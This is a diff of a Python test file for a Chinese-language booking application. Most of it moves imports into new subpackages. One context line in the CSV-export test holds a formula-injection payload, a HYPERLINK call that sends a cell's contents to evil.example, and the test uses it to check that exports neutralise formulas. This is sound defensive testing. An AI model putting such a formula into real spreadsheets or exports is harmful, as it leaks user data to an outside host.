@@ -97,7 +97,7 @@ def test_exports_never_write_a_formula(world, client):
 
     from openpyxl import load_workbook
 
-    from booking import exports
+    from booking.documents import exports
     evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
     rows = [[evil, 1, 2, ""], ["+1+1", 3, 4, ""], ["-2", 5, 6, ""], ["@SUM(A1)", 7, 8, ""], ["合计", 16, 20, ""]]
     text = exports.csv_bytes(["基地", "批次", "人次", "满意度"], rows).decode("utf-8-sig")
@@ -424,7 +424,7 @@ def test_uploaded_photos_are_not_world_readable(world):
 
     from booking.visits import services as visits
     from tests.factories import completed, image_bytes, user
-    from booking import photos as photo_store
+    from booking.photos import storage as photo_store
     world.config["PHOTO_STORAGE"] = "filesystem"  # files are what can be world-readable
     b = completed()
     visits.save_activity_record(user("secretary"), b, "纪实", [("a.gif", image_bytes("GIF"))])
@@ -592,11 +592,11 @@ def test_saving_a_user_with_an_email_address(world, client):
 
 
 def test_a_rested_connection_that_was_cut_is_replaced_before_use(world, monkeypatch):
-    """Connections are pinged when they come out of the pool after a rest (booking.dbping), not on every request:
+    """Connections are pinged when they come out of the pool after a rest (booking.database.ping), not on every request:
     one cut while it rested (a server restart, a proxy's idle timeout) is replaced, and the request does not fail."""
     from sqlalchemy import text
 
-    from booking import dbping
+    from booking.database import ping as dbping
     from models import db
     engine = db.engine
     if engine.dialect.name == "sqlite":  # installed for PostgreSQL by the app; the same listeners here
